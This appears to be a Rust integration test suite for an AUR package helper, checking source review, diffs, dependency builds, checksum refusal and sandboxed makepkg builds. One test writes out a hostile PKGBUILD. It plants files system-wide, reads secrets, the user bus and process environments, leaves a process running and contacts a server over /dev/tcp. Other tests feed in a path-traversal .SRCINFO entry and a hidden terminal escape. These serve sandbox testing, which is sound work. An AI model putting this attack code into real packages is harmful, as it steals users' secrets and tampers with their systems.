//! Packages of the AUR, from real repositories over http: looked at, built in the sandbox by makepkg, installed by the helper.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

#[path = "support/aur_repositories.rs"]
mod aur_repositories;
#[path = "support/aur_world.rs"]
mod aur_world;
#[path = "support/debian_root.rs"]
mod debian_root;
#[path = "support/pacman_root.rs"]
mod pacman_root;
#[path = "support/pacman_world.rs"]
mod pacman_world;
#[path = "support/terminal.rs"]
#[expect(dead_code, reason = "shared by test targets that each use a part")]
mod terminal;

use std::process::Stdio;

use aur_world::{HOME, World, pkgbuild, told};
use debian_root::child_of;
use terminal::Terminal;

/// Where the log of what the user did is.
const LOG: &str = "/home/builder/.local/share/omg/audit/audit.jsonl";

#[test]
fn what_it_depends_on_is_built_and_installed_first() {
    let world = World::new();
    world.publish(
        "app",
        &pkgbuild("app", "1", "of app\n", "depends=('libdep>=2')\nmakedepends=(p4)"),
        &[("data", "of app\n")],
    );
    world.publish("libdep", &pkgbuild("libdep", "2", "of libdep\n", ""), &[("data", "of libdep\n")]);
    let refused = world.omg(&["install", "-y", "app"]);
    assert_eq!(refused.status.code(), Some(2), "{}", told(&refused));
    assert!(told(&refused).contains("has to be looked at"), "{}", told(&refused));
    assert_eq!((world.installed("app"), world.installed("p4")), (None, None));
    let said = world.succeeds(&["install", "-y", "--no-review", "app"]);
    assert_eq!(world.installed("app"), Some(("1-1".into(), true)), "{said}");
    assert_eq!(world.installed("libdep"), Some(("2-1".into(), false)));
    assert_eq!(world.installed("p4"), Some(("1-1".into(), false)));
    assert_eq!(world.machine.read("/usr/share/app/data"), "of app\n");
    assert!(said.contains("omg remove --unneeded p4"), "{said}");
    let log = world.machine.read(LOG);
    assert_eq!(log.matches("\"unreviewed\"").count(), 2, "{log}");
    let said = world.succeeds(&["install", "-y", "aur/app"]);
    assert!(said.contains("already the newest version"), "{said}");
    let missing = world.omg(&["install", "-y", "aur/nothing-at-all"]);
    assert_eq!(missing.status.code(), Some(1), "{}", told(&missing));
}

#[test]
fn what_changed_since_it_was_seen_is_shown_and_what_is_refused_leaves_nothing() {
    let world = World::new();
    let script = "post_install() { true; }\n# \u{1b}[2Jhidden\n";
    world.publish("tool", &pkgbuild("tool", "1", "one $Id$\n", ""), &[("data", "one $Id$\n")]);
    let mut refused = Terminal::start(world.command(&["install", "tool"]), 200);
    refused.wait_for("Go on?").enter("y").wait_for("Build it? [y/N]").enter("n");
    let (status, text) = refused.end();
    assert_eq!(status.code(), Some(130), "{text}");
    assert!(text.contains("+pkgver=1") && text.contains("+one"), "{text}");
    assert_eq!(world.installed("tool"), None);
    let mut first = Terminal::start(world.command(&["install", "tool"]), 200);
    first.wait_for("Go on?").enter("y").wait_for("Build it? [y/N]").enter("y");
    let (status, text) = first.end();
    assert!(status.success(), "{text}");
    assert_eq!(world.installed("tool"), Some(("1-1".into(), true)));

    let next = pkgbuild("tool", "2", "one $Id$\n", "install=tool.install");
    // What it says of its own files changes neither what is shown of them nor what is built.
    let attributes = (".gitattributes", "* -diff\ndata ident\n");
    world.publish("tool", &next, &[("data", "one $Id$\n"), ("tool.install", script), attributes]);
    // Where nobody can look, that holds up none of the repositories' upgrades.
    world.machine.run("pacman", &["-Sy", "--noconfirm"]);
    assert_ne!(world.installed("p5").map(|(version, _)| version).as_deref(), Some("2-1"));
    let said = world.succeeds(&["upgrade", "-y"]);
    assert!(said.contains("the AUR is left out: tool has to be looked at before it is built"), "{said}");
    assert_eq!(world.installed("p5").map(|(version, _)| version).as_deref(), Some("2-1"), "{said}");
    assert_eq!(world.installed("tool"), Some(("1-1".into(), true)), "{said}");
    // What is asked for by its name is not left out.
    let named = world.omg(&["upgrade", "-y", "tool"]);
    assert_eq!(named.status.code(), Some(2), "{}", told(&named));
    assert!(told(&named).contains("standard input is no terminal"), "{}", told(&named));
    let mut second = Terminal::start(world.command(&["upgrade"]), 200);
    second.wait_for("Go on?").enter("y").wait_for("Build it? [y/N]").enter("y");
    let (status, text) = second.end();
    assert!(status.success(), "{text}");
    assert!(text.contains("-pkgver=1") && text.contains("+pkgver=2"), "{text}");
    assert!(text.contains("+# \\u{1b}[2Jhidden") && !text.contains("+one"), "{text}");
    assert_eq!(world.installed("tool"), Some(("2-1".into(), true)));
    assert!(!world.machine.exists(LOG));
}

#[test]
fn a_hostile_pkgbuild_gets_nowhere() {
    let world = World::new();
    world.machine.write(&format!("{HOME}/secret"), "secret");
    world.machine.run("sh", &["-c", &format!("chown builder {HOME}/secret; mkdir -p /run/user/1000; : >/run/user/1000/bus; chmod 666 /run/user/1000/bus; : >/tmp/theirs; chmod 666 /tmp/theirs")]);
    let port = world.aur.port;
    let attack = format!(
        "attack() {{ (trap - ERR; set +e\n\
         for place in {HOME} /tmp /var/tmp .. ../.. /run /etc /usr /; do : >\"$place/pwned\"; done 2>/dev/null\n\
         cat {HOME}/secret /run/user/1000/bus >>\"$1.stolen\" 2>/dev/null\n\
         [ ! -e /tmp/theirs ] || echo tmp >>\"$1.stolen\"\n\
         [ ! -e /run/user ] || echo run >>\"$1.stolen\"\n\
         cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep '^HOME={HOME}' >>\"$1.stolen\"\n\
         setsid sleep 54321 >/dev/null 2>&1 </dev/null &\n\
         (exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'GET /from-%s HTTP/1.0\\r\\n\\r\\n' \"$1\" >&3 && cat <&3) >/dev/null 2>&1\n\
         ) || true; }}\n"
    );
    let plain = pkgbuild("evil", "1", "x\n", "prepare() { attack prepare; }\nbuild() { attack build; }\n");
    let package = "package() { attack package; mkdir -p \"$pkgdir/usr/share\"; cp \"$startdir\"/*.stolen \"$srcdir\"/*.stolen \"$pkgdir/usr/share/\" || true; ";
    let plain = plain.replace("package() { ", package);
    let evil = format!("{attack}{plain}attack top\n");
    // Its description is written by whoever writes it.
    let srcinfo = world.srcinfo(&plain);
    world.aur.publish("evil", &srcinfo, &[("PKGBUILD", &evil), ("data", "x\n")]);
    let said = world.succeeds(&["install", "-y", "--no-review", "evil"]);
    assert_eq!(world.installed("evil"), Some(("1-1".into(), true)), "{said}");
    for stage in ["top", "prepare", "build", "package"] {
        let path = format!("/usr/share/{stage}.stolen");
        assert!(!world.machine.exists(&path) || world.machine.read(&path).is_empty(), "{}", world.machine.read(&path));
    }
    // The top runs while sources are fetched too, when there is a network: that the attack works where it can.
    assert!(world.aur.was_asked_for("/from-top"));
    for stage in ["prepare", "build", "package"] {
        assert!(!world.aur.was_asked_for(&format!("/from-{stage}")), "{stage} reached the network");
    }
    for place in [HOME, "/tmp", "/var/tmp", "/run", "/etc", "/usr", "/"] {
        assert!(!world.machine.exists(&format!("{place}/pwned")), "{place}");
    }
    let found = world.machine.run("find", &[HOME, "-name", "pwned"]);
    assert!(!found.lines().any(|path| !path.contains("/packages/evil/")), "{found}");
    assert!(!world.runs("sleep 54321"));
}

#[test]
fn a_hostile_srcinfo_and_a_wrong_checksum_are_refused() {
    let world = World::new();
    let plain = pkgbuild("odd", "1", "x\n", "");
    let srcinfo = world.srcinfo(&plain);
    world.aur.publish("odd", &srcinfo, &[("PKGBUILD", &plain), ("data", "x\n")]);
    world
        .aur
        .commit("odd", &[("PKGBUILD", &plain), (".SRCINFO", &srcinfo.replace("source = data", "source = ../../data"))]);
    let refused = world.omg(&["install", "-y", "--no-review", "odd"]);
    assert!(!refused.status.success() && told(&refused).contains(".SRCINFO, line"), "{}", told(&refused));
    world.publish("wrong", &pkgbuild("wrong", "1", "good\n", ""), &[("data", "bad\n")]);
    world.publish("fine", &pkgbuild("fine", "1", "fine\n", ""), &[("data", "fine\n")]);
    let failed = world.omg(&["install", "-y", "--no-review", "wrong", "fine"]);
    assert!(!failed.status.success() && told(&failed).contains("sources.log has all of it"), "{}", told(&failed));
    assert_eq!((world.installed("wrong"), world.installed("odd")), (None, None));
    // One that fails does not lose the others.
    assert_eq!(world.installed("fine"), Some(("1-1".into(), true)), "{}", told(&failed));
}

#[test]
fn a_split_package_is_built_once_and_the_others_of_it_are_left_out() {
    let world = World::new();
    let both = "pkgbase=duo\npkgname=(duo-a duo-b duo-c)\npkgver=1\npkgrel=1\narch=(any)\nlicense=(MIT)\n\
        package_duo-a() { depends=(duo-b); mkdir -p \"$pkgdir/usr/share/duo-a\"; }\n\
        package_duo-b() { mkdir -p \"$pkgdir/usr/share/duo-b\"; }\n\
        package_duo-c() { mkdir -p \"$pkgdir/usr/share/duo-c\"; }\n";
    world.publish("duo", both, &[]);
    let said = world.succeeds(&["install", "-y", "--no-review", "duo-a"]);
    assert_eq!(world.installed("duo-a"), Some(("1-1".into(), true)), "{said}");
    assert_eq!(world.installed("duo-b"), Some(("1-1".into(), false)));
    assert_eq!(world.installed("duo-c"), None);
    assert_eq!(said.matches("building duo").count(), 1, "{said}");
}

#[test]
fn a_build_that_is_cancelled_leaves_nothing_running_and_what_is_built_is_used_again() {
    let world = World::new();
    let slow = pkgbuild("lengthy", "1", "x\n", "build() { echo begun; sleep 65432; }");
    world.publish("lengthy", &slow, &[("data", "x\n")]);
    let mut command = world.command(&["install", "-y", "--no-review", "lengthy"]);
    let mut running = command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    while !world.runs("sleep 65432") {
        assert!(running.try_wait().unwrap().is_none(), "it ended before it was built");
        std::thread::yield_now();
    }
    let omg = rustix::process::Pid::from_raw(i32::try_from(child_of(running.id())).unwrap()).unwrap();
    rustix::process::kill_process(omg, rustix::process::Signal::INT).unwrap();
    assert_eq!(running.wait().unwrap().code(), Some(130));
    while world.runs("sleep 65432") {
        std::thread::yield_now();
    }
    assert_eq!(world.installed("lengthy"), None);

    world.publish("quick", &pkgbuild("quick", "1", "x\n", ""), &[("data", "x\n")]);
    world.succeeds(&["install", "-y", "--no-review", "quick"]);
    world.machine.run("pacman", &["-R", "--noconfirm", "quick"]);
    let said = world.succeeds(&["install", "-y", "--no-review", "quick"]);
    assert!(said.contains("quick is built already"), "{said}");
    assert_eq!(world.installed("quick"), Some(("1-1".into(), true)));
}
